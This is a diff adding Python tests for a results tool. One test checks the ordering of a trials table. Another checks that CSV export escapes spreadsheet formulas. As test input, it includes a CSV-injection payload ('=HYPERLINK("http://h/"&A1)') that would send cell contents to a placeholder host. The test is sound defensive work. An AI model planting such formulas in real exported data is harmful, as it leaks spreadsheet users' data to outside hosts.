@@ -60,6 +60,15 @@ def test_the_table_lists_best_first_and_failures_last() -> None:
     assert "wrong" in lines[3] and "fault: SandboxError" in lines[4]
 
 
+def test_rough_verdicts_stand_behind_full_ones_and_those_that_are_out_behind_both() -> None:
+    refuted, good, slow = a_trial(4, 9.0), a_trial(5, 2.0), a_trial(6, 0.5)
+    trials = [refuted, ROUGH, slow, good, a_trial(1, None)]
+    lines = printed(trials_table(trials, out={refuted.program.id})).splitlines()[1:]
+    assert [line.split()[0] for line in lines] == ["#5", "#6", "#7", "#4", "#1"]
+    assert ["ok (out)" in line for line in lines] == [False, False, False, True, False]
+    assert "wrong (out)" not in printed(trials_table([a_trial(1, None)], out={a_trial(1, None).program.id}))
+
+
 def test_the_table_can_be_cut() -> None:
     assert len(printed(trials_table([a_trial(i, 1.0 + i) for i in range(9)], top=3)).splitlines()) == 4
 
@@ -67,6 +76,16 @@ def test_the_table_can_be_cut() -> None:
 def test_a_verdict_leaves_out_what_does_not_exist() -> None:
     text = printed(verdict_table(Evaluation.ok(1.5, latency_ms=2.0, speedup_vs_cublas=None)))
     assert "latency_ms  2" in text and "cublas" not in text and "1.50x" in text
+
+
+def test_a_models_idea_is_no_formula_of_a_spreadsheet() -> None:
+    ideas = ('=HYPERLINK("http://h/"&A1)', "+1", "-1", "@x", "\tx", "a=b")
+    trials = [
+        Trial(n, Program.single(f"v{n}", origin=Origin("llm", idea)), Evaluation.wrong("no"))
+        for n, idea in enumerate(ideas)
+    ]
+    rows = list(csv.DictReader(io.StringIO(trials_csv(trials))))
+    assert [row["idea"] for row in rows] == [*(f"'{idea}" for idea in ideas[:-1]), "a=b"]
 
 
 def test_csv_has_every_trial_in_order() -> None:
